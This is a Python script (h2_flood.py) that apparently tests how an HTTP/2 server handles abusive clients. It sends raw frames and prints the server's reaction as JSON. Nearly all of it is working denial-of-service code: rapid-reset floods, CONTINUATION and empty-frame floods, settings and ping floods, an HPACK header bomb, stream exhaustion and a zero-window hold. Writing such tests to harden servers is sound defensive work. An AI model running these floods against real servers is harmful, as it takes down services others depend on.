"""A client of HTTP/2 that means harm, on bare frames: h2_flood.py HOST PORT CASE COUNT.

Prints one line of JSON: what the server did about it.
"""

import json
import select
import socket
import struct
import sys

import h2.config
import h2.connection
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

HEAD = [
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", "shop.test"),
    (":path", "/flood"),
]
LAST = b"the last"


class Attacker:
    """A connection that counts what comes back."""

    def __init__(self, host, port):
        self.socket = socket.create_connection((host, port), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # The library speaks the start; from then on there are frames alone.
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        start = h2.connection.H2Connection(config=config)
        start.initiate_connection()
        self.encoder = Encoder()
        self.unread = b""
        self.is_done = False
        self.seen = {
            "frames": 0,
            "statuses": {},
            "resets": {},
            "goaway": None,
            "closed": False,
            "sent": 0,
            "acks": 0,
            "pongs": 0,
        }
        self.raw(start.data_to_send())

    def raw(self, data):
        """Sends bytes, and reads whatever comes meanwhile; false when the server is gone."""
        view = memoryview(data)
        while view and not self.seen["closed"]:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 20)
            if not readable and not writable:
                raise TimeoutError("the server neither reads nor closes")
            if readable:
                self.read()
            if writable and not self.seen["closed"]:
                try:
                    count = self.socket.send(view)
                except ConnectionError:
                    self.seen["closed"] = True
                    break
                self.seen["sent"] += count
                view = view[count:]
        return not self.seen["closed"]

    def blind(self, data):
        """Sends bytes and reads nothing, as long as the server takes them; false when it does not."""
        self.socket.settimeout(2)
        try:
            self.socket.sendall(data)
            self.seen["sent"] += len(data)
            return True
        except TimeoutError:
            return False
        except ConnectionError:
            self.seen["closed"] = True
            return False

    def send(self, *frames):
        return self.raw(b"".join(frame.serialize() for frame in frames))

    def headers(self, stream, fields, flags=("END_HEADERS", "END_STREAM")):
        return HeadersFrame(stream, data=self.encoder.encode(fields), flags=flags)

    def read(self):
        try:
            data = self.socket.recv(1 << 16)
        except (ConnectionError, TimeoutError):
            data = b""
        if not data:
            self.seen["closed"] = True
            return
        self.unread += data
        while len(self.unread) >= 9:
            length = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + length:
                break
            kind, flags = self.unread[3], self.unread[4]
            payload = self.unread[9 : 9 + length]
            self.unread = self.unread[9 + length :]
            self.note(kind, flags, payload)

    def note(self, kind, flags, payload):
        self.seen["frames"] += 1
        if kind == 3:
            self.count("resets", struct.unpack(">I", payload)[0])
        elif kind == 7:
            code = struct.unpack(">I", payload[4:8])[0]
            # A second GOAWAY tells more than a first one in good order.
            self.seen["goaway"] = max(code, self.seen["goaway"] or 0)
        elif kind == 4 and flags & 1:
            self.seen["acks"] += 1
        elif kind == 6 and flags & 1:
            self.seen["pongs"] += 1
            self.is_done = self.is_done or payload == LAST
        elif kind == 1:
            self.count("statuses", payload[:1].hex())

    def count(self, what, key):
        self.seen[what][str(key)] = self.seen[what].get(str(key), 0) + 1

    def finish(self):
        """Reads on until the server closes or has answered a last PING."""
        self.socket.settimeout(20)
        self.send(PingFrame(0, opaque_data=LAST))
        while not self.seen["closed"] and not self.is_done:
            self.read()
        print(json.dumps(self.seen))


def rapid_reset(attacker, count):
    for stream in range(1, 2 * count, 2):
        if not attacker.send(attacker.headers(stream, HEAD), RstStreamFrame(stream, error_code=8)):
            return


def resets_provoked(attacker, count):
    """Makes the server itself reset each stream, by a window that overflows."""
    for stream in range(1, 2 * count, 2):
        head = attacker.headers(stream, HEAD, ("END_HEADERS",))
        update = WindowUpdateFrame(stream, window_increment=0x7FFFFFFF)
        if not attacker.send(head, update):
            return


def continuations(attacker, count):
    attacker.send(HeadersFrame(1, data=attacker.encoder.encode(HEAD)))
    for at in range(count):
        data = b"\x00" + bytes([8]) + f"x{at:07}".encode() + b"\x7f\xc1\x3d" + b"a" * 8000
        if not attacker.send(ContinuationFrame(1, data=data)):
            return


def continuations_empty(attacker, count):
    attacker.send(HeadersFrame(1, data=attacker.encoder.encode(HEAD)))
    batch = [ContinuationFrame(1, data=b"")] * 100
    for _ in range(count // 100):
        if not attacker.send(*batch):
            return


def settings(attacker, count):
    batch = [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})] * 100
    for _ in range(count // 100):
        if not attacker.send(*batch):
            return


def unread(attacker, frame, count):
    data = frame.serialize() * 100
    for _ in range(count // 100):
        if not attacker.blind(data):
            return


def settings_unread(attacker, count):
    unread(attacker, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}), count)


def pings(attacker, count):
    batch = [PingFrame(0, opaque_data=b"12345678")] * 100
    for _ in range(count // 100):
        if not attacker.send(*batch):
            return


def pings_unread(attacker, count):
    unread(attacker, PingFrame(0, opaque_data=b"12345678"), count)


def empty_data(attacker, count):
    attacker.send(attacker.headers(1, [(":method", "POST")] + HEAD[1:], ("END_HEADERS",)))
    batch = [DataFrame(1, data=b"")] * 100
    for _ in range(count // 100):
        if not attacker.send(*batch):
            return


def padded_data(attacker, count):
    """Frames that are padding alone."""
    attacker.send(attacker.headers(1, [(":method", "POST")] + HEAD[1:], ("END_HEADERS",)))
    frame = DataFrame(1, data=b"", pad_length=1, flags=["PADDED"])
    for _ in range(count // 100):
        if not attacker.send(*[frame] * 100):
            return


def priorities(attacker, count):
    batch = [PriorityFrame(stream, depends_on=0, stream_weight=1) for stream in range(1, 201, 2)]
    for _ in range(count // 100):
        if not attacker.send(*batch):
            return


def window_updates(attacker, count):
    attacker.send(attacker.headers(1, [(":method", "POST")] + HEAD[1:], ("END_HEADERS",)))
    batch = [WindowUpdateFrame(1, window_increment=1)] * 100
    for _ in range(count // 100):
        if not attacker.send(*batch):
            return


def header_bomb(attacker, count):
    """One entry of the table, named again and again: a few bytes stand for gigabytes."""
    entry = b"\x40" + b"\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
    attacker.send(HeadersFrame(1, data=attacker.encoder.encode(HEAD) + entry, flags=["END_HEADERS", "END_STREAM"]))
    # The entry is the newest of the dynamic table: index 62.
    block = Encoder().encode(HEAD[:1]) + bytes([0x86, 0x84]) + b"\xbe" * 16000
    for stream in range(3, 2 * count, 2):
        frame = HeadersFrame(stream, data=block, flags=["END_HEADERS", "END_STREAM"])
        if not attacker.send(frame):
            return


def huge_list(attacker, count):
    """A head of count fields of a thousand bytes each, in blocks as the frames allow."""
    block = Encoder().encode(HEAD)
    for at in range(count):
        block += b"\x00" + bytes([8]) + f"x{at:07}".encode() + b"\x7f\xe9\x06" + b"a" * 1000
    pieces = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    frames = [HeadersFrame(1, data=pieces[0], flags=["END_STREAM"])]
    frames += [ContinuationFrame(1, data=piece) for piece in pieces[1:]]
    frames[-1].flags.add("END_HEADERS")
    attacker.send(*frames)


def many_streams(attacker, count):
    """More requests at once than the server allows; none of them ends."""
    post = [(":method", "POST")] + HEAD[1:]
    for stream in range(1, 2 * count, 2):
        if not attacker.send(attacker.headers(stream, post, ("END_HEADERS",))):
            return


def zero_window(attacker, count):
    """Asks for answers and never lets their bodies come."""
    attacker.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
    for stream in range(1, 2 * count, 2):
        if not attacker.send(attacker.headers(stream, HEAD)):
            return


def main():
    host, port, case, count = sys.argv[1:5]
    attacker = Attacker(host, int(port))
    globals()[case](attacker, int(count))
    if case == "zero_window":
        # It stays until it is told to go.
        attacker.finish()
        sys.stdin.readline()
        return
    attacker.finish()


main()
